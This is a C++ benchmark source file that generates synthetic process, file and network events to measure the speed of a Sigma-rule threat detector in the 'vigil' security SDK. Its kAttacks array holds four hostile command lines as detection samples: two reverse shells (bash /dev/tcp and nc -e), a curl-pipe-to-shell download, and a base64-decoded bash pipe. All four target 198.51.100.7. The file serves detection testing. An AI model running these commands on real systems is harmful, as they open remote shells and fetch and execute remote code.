#include "sigma_workload.hpp"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>

#include <time.h>

#include <chrono>
#include <cstring>
#include <iterator>
#include <random>

#include <vigil/sdk.hpp>

#include "behavior_sigma/event_builder.hpp"

namespace vigil::behavior::sigma::bench {

namespace {

struct Command {
    const char* exe;
    const char* cmdline;
};

// Everyday commands on a build/dev server.
constexpr Command kBenign[] = {
    {"/usr/bin/ls", "ls -la /home/alice/src"},
    {"/usr/bin/git", "git status --porcelain"},
    {"/usr/bin/git", "git log --oneline -n 20"},
    {"/usr/bin/grep", "grep -rn TODO src/"},
    {"/usr/bin/cat", "cat /etc/os-release"},
    {"/usr/bin/python3.11", "python3 /opt/app/manage.py runserver 0.0.0.0:8000"},
    {"/usr/bin/gcc", "gcc -O2 -c main.c -o main.o"},
    {"/usr/bin/make", "make -j2 all"},
    {"/usr/bin/ssh", "ssh -o BatchMode=yes build@10.0.0.5 uptime"},
    {"/usr/bin/curl", "curl -fsS http://127.0.0.1:8080/health"},
    {"/usr/bin/sed", "sed -i s/foo/bar/g config.ini"},
    {"/usr/bin/find", "find /var/cache -name *.tmp -mtime +7 -delete"},
    {"/usr/bin/systemctl", "systemctl status nginx"},
    {"/usr/sbin/ip", "ip -j addr show"},
    {"/usr/bin/ps", "ps aux"},
    {"/usr/bin/tar", "tar -czf /backup/home.tgz /home/alice"},
    {"/usr/bin/node", "node /srv/web/server.js"},
    {"/usr/bin/dpkg", "dpkg -l"},
    {"/bin/bash", "bash /usr/local/bin/rotate-logs.sh"},
    {"/usr/bin/sort", "sort -u names.txt"},
};

constexpr Command kAttacks[] = {
    {"/bin/bash", "bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"},
    {"/bin/sh", "sh -c curl -fsSL http://198.51.100.7/x.sh | sh"},
    {"/usr/bin/nc", "nc -e /bin/sh 198.51.100.7 4444"},
    {"/bin/sh", "sh -c echo Y3VybCBodHRw | base64 -d | bash"},
};

constexpr const char* kFiles[] = {
    "/home/alice/src/main.c", "/var/log/nginx/access.log", "/tmp/cc1xYz.s", "/var/lib/app/db.sqlite-journal",
    "/home/alice/.cache/pip/http/a1", "/srv/web/uploads/img.png", "/etc/cron.d/certbot", "/opt/app/static/app.js",
};

vigil::ProcessInfo make_process(const Command& c, int pid) {
    vigil::ProcessInfo p;
    p.flags = VIGIL_PROC_FLAG_KNOWN;
    p.pid = pid;
    p.ppid = 1000;
    p.uid = 1000;
    p.exe = c.exe;
    p.cmdline = c.cmdline;
    p.cwd = "/home/alice";
    p.user = "alice";
    p.parent_exe = "/bin/bash";
    p.parent_cmdline = "-bash";
    return p;
}

template <class T>
Payload finish(std::uint32_t type, const vigil::PayloadBuilder<T>& b) {
    Payload p;
    p.type = type;
    auto* d = static_cast<const char*>(b.data());
    p.bytes.assign(d, d + b.size());
    return p;
}

// Wall and thread-CPU time of one measured run.
class Stopwatch {
public:
    Stopwatch() : wall_(std::chrono::steady_clock::now()), cpu_(thread_cpu()) {}
    void stop(RunResult& r) const {
        r.seconds = std::chrono::duration<double>(std::chrono::steady_clock::now() - wall_).count();
        r.cpu_seconds = thread_cpu() - cpu_;
    }

private:
    static double thread_cpu() {
        timespec ts{};
        clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts);
        return double(ts.tv_sec) + double(ts.tv_nsec) / 1e9;
    }
    std::chrono::steady_clock::time_point wall_;
    double cpu_;
};

}  // namespace

std::vector<Payload> make_workload(std::size_t count, std::uint32_t seed) {
    std::mt19937 rng(seed);
    std::vector<Payload> out;
    out.reserve(count);
    for (std::size_t i = 0; i < count; ++i) {
        int pid = 2000 + int(i % 30000);
        unsigned roll = rng() % 1000;
        bool attack = roll < 5;
        const Command& cmd = attack ? kAttacks[rng() % std::size(kAttacks)] : kBenign[rng() % std::size(kBenign)];
        if (attack || roll < 700) {
            vigil::PayloadBuilder<vigil_process_event> b;
            b.set_process(&vigil_process_event::process, make_process(cmd, pid));
            out.push_back(finish(VIGIL_TYPE_PROCESS_START, b));
        } else if (roll < 900) {
            vigil::PayloadBuilder<vigil_file_event> b;
            b.set_process(&vigil_file_event::process, make_process(cmd, pid));
            b.head().action = (rng() & 1) ? VIGIL_FILE_CREATE : VIGIL_FILE_MODIFY;
            b.head().path = b.add(kFiles[rng() % std::size(kFiles)]);
            out.push_back(finish(VIGIL_TYPE_FILE, b));
        } else {
            vigil::PayloadBuilder<vigil_network_event> b;
            b.set_process(&vigil_network_event::process, make_process(cmd, pid));
            auto& h = b.head();
            h.action = VIGIL_NET_CONNECT;
            h.family = AF_INET;
            h.protocol = IPPROTO_TCP;
            h.local_port = std::uint16_t(32768 + rng() % 20000);
            h.remote_port = (rng() & 1) ? 443 : 80;
            inet_pton(AF_INET, "10.0.0.2", h.local_addr);
            std::uint32_t remote = htonl(0xC6336400u + (rng() % 200));  // 198.51.100.x
            std::memcpy(h.remote_addr, &remote, 4);
            out.push_back(finish(VIGIL_TYPE_NETWORK, b));
        }
    }
    return out;
}

RunResult run_build_only(const std::vector<Payload>& work, std::size_t rounds) {
    RunResult r;
    Stopwatch watch;
    for (std::size_t k = 0; k < rounds; ++k)
        for (const auto& p : work) {
            auto ev = event_from_message(p.type, p.bytes.data(), std::uint32_t(p.bytes.size()));
            r.matches += ev && ev->has(FieldId::Image);  // keeps the work observable
            ++r.events;
        }
    watch.stop(r);
    return r;
}

RunResult run_detector(const Detector& d, const std::vector<Payload>& work, std::size_t rounds) {
    RunResult r;
    Stopwatch watch;
    for (std::size_t k = 0; k < rounds; ++k)
        for (const auto& p : work) {
            if (auto ev = event_from_message(p.type, p.bytes.data(), std::uint32_t(p.bytes.size())))
                r.matches += d.evaluate(*ev).size();
            ++r.events;
        }
    watch.stop(r);
    return r;
}

std::vector<std::filesystem::path> corpus_rule_dirs(const std::filesystem::path& corpus) {
    auto s = corpus / "sigma";
    return {s / "rules", s / "rules-emerging-threats", s / "rules-threat-hunting"};
}

}  // namespace vigil::behavior::sigma::bench
